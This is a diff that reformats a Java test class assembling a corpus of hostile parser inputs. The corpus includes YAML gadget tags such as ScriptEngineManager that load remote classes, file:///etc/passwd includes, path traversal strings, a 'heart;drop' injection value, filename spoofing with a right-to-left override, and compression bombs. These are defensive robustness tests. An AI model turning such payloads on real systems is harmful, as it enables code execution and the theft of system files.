@@ -51,8 +51,7 @@ public final class HostileCorpus {
           case STATEMENT -> CanonicalJson.parseObject(bytes);
           case WORK -> WorkReply.read(bytes);
           case TILE_PATH -> TilePath.parse(new String(bytes, StandardCharsets.ISO_8859_1));
-          case CHECKPOINT ->
-              SignedCheckpoint.parse(new String(bytes, StandardCharsets.ISO_8859_1));
+          case CHECKPOINT -> SignedCheckpoint.parse(new String(bytes, StandardCharsets.ISO_8859_1));
         }
         return false;
       } catch (RefusedException | DecodeException | LogFormatException refused) {
@@ -109,7 +108,11 @@ public final class HostileCorpus {
     add(out, reader, "one key many times", "name: x\n".repeat(3_000));
     add(out, reader, "a scalar without end", "name: " + "x".repeat(4 << 20));
     add(out, reader, "unclosed quotes", "name: \"" + "\\\"".repeat(10_000));
-    add(out, reader, "a tag that makes objects", "!!javax.script.ScriptEngineManager [" + url(address) + "]");
+    add(
+        out,
+        reader,
+        "a tag that makes objects",
+        "!!javax.script.ScriptEngineManager [" + url(address) + "]");
     add(out, reader, "a tag that loads classes", "a: !!java.net.URL [\"" + address + "/x\"]\n");
     add(out, reader, "a tag directive", "%TAG ! " + address + "/\n---\na: !x 1\n");
     add(out, reader, "a merge key", "a: &a {b: 1}\nc: {<<: *a}\n");
@@ -117,7 +120,8 @@ public final class HostileCorpus {
     add(out, reader, "complex keys", "? [a, b]\n: 1\n");
     add(out, reader, "an included file", "include: file:///etc/passwd\nurl: " + address + "\n");
     out.add(new Case(reader, "zeros, compressed", gzip(new byte[20 << 20])));
-    out.add(new Case(reader, "bytes that are no text", new byte[] {(byte) 0xff, (byte) 0xfe, 0, 0}));
+    out.add(
+        new Case(reader, "bytes that are no text", new byte[] {(byte) 0xff, (byte) 0xfe, 0, 0}));
     out.add(new Case(reader, "zeros", new byte[1 << 20]));
     add(out, reader, "a null character", "name: \"a\\0b\"\n\u0000");
   }
@@ -149,14 +153,31 @@ public final class HostileCorpus {
             "\"\\e[2J\\e[1;1Hcleared\"",
             "\"x\\u202Egpj.exe\"",
             "\"" + "x".repeat(10_000) + "\"")) {
-      add(out, Reader.JOB, "name " + name.substring(0, Math.min(30, name.length())), job(name, "heart", "age"));
+      add(
+          out,
+          Reader.JOB,
+          "name " + name.substring(0, Math.min(30, name.length())),
+          job(name, "heart", "age"));
     }
     for (String dataset :
-        List.of("../../etc/passwd", "/etc/passwd", address + "/heart", "\"heart\\0.csv\"", "heart;drop")) {
+        List.of(
+            "../../etc/passwd",
+            "/etc/passwd",
+            address + "/heart",
+            "\"heart\\0.csv\"",
+            "heart;drop")) {
       add(out, Reader.JOB, "dataset " + dataset, job("x", dataset, "age"));
     }
-    add(out, Reader.JOB, "a field for an address", job("x", "heart", "age") + "callback: " + address + "\n");
-    add(out, Reader.JOB, "a field for a file", job("x", "heart", "age") + "records: file:///etc/passwd\n");
+    add(
+        out,
+        Reader.JOB,
+        "a field for an address",
+        job("x", "heart", "age") + "callback: " + address + "\n");
+    add(
+        out,
+        Reader.JOB,
+        "a field for a file",
+        job("x", "heart", "age") + "records: file:///etc/passwd\n");
   }
 
   private static String job(String name, String dataset, String column) {
@@ -175,8 +196,16 @@ public final class HostileCorpus {
             "tile/0/" + "x999/".repeat(100_000) + "000")) {
       add(out, Reader.TILE_PATH, path.substring(0, Math.min(30, path.length())), path);
     }
-    add(out, Reader.CHECKPOINT, "signatures without end", "a\n1\nAA==\n\n" + "\u2014 a AAAA\n".repeat(100_000));
-    add(out, Reader.CHECKPOINT, "a size beyond numbers", "a\n" + "9".repeat(100_000) + "\nAA==\n\n");
+    add(
+        out,
+        Reader.CHECKPOINT,
+        "signatures without end",
+        "a\n1\nAA==\n\n" + "\u2014 a AAAA\n".repeat(100_000));
+    add(
+        out,
+        Reader.CHECKPOINT,
+        "a size beyond numbers",
+        "a\n" + "9".repeat(100_000) + "\nAA==\n\n");
   }
 
   private static byte[] gzip(byte[] bytes) {
